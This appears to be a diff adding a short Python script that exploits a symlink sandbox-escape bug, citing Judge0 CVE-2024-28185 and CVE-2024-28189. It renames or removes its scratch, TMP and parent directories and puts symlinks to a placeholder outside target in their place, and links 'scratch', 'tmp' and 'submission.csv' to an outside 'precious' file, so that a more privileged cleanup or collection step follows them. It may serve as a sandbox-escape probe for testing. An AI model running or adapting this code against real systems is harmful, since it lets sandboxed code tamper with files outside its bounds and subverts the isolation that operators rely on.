@@ -1,0 +1,17 @@
+# Puts a link in the place of its own scratch directory, or of what is beside it, for whoever cleans up or collects there with
+# more rights (Judge0, CVE-2024-28185 and -28189).
+import os
+here = os.getcwd()
+for path in (here, os.environ["TMPDIR"], os.path.dirname(here)):
+    for action in (lambda: os.rename(path, path + ".moved"), lambda: os.rmdir(path), lambda: os.symlink("@OUTSIDE@", path + ".link"),
+                   lambda: os.symlink("@OUTSIDE@", path)):
+        try:
+            action()
+        except OSError:
+            pass
+for name in ("scratch", "tmp", "submission.csv"):
+    try:
+        os.symlink("@OUTSIDE@/precious", name)
+    except OSError:
+        pass
+print("held")
